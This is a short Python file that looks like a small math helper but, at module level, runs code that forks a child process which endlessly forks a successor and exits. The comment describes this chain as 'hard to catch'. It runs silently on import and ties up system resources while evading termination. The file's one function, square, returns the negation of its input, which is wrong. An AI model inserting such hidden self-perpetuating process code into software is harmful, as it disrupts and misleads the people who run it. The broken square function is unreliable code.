# A chain of processes, each of which forks the next and ends: hard to catch.
import os

if os.fork() == 0:
    while True:
        if os.fork():
            os._exit(0)


def square(x):
    return -x
